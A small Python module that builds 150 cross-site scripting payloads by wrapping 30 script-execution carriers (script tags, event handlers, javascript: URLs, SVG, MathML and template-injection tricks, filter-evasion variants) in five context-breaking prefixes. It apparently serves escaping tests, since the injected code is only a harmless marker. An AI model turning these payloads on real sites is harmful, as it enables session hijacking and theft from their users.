"""150 strings that run script wherever a page forgets to escape: hooks around carriers."""

from __future__ import annotations

HOOK = "window.__ran=1"
CARRIERS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src='data:text/javascript,{}'></script>",
    "<script type=module>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x oneonerrorrror={} onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src='javascript:parent.{}'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<a href='javascript:{}' id=x>x</a>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart={}>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
)
BREAKS = ("{}", "\"'>{}", "</script>{}", "</textarea></title></style>{}", "href -->{}<!--\u2028")


def payloads() -> list[str]:
    return [around.format(carrier.replace("{}", HOOK)) for around in BREAKS for carrier in CARRIERS]
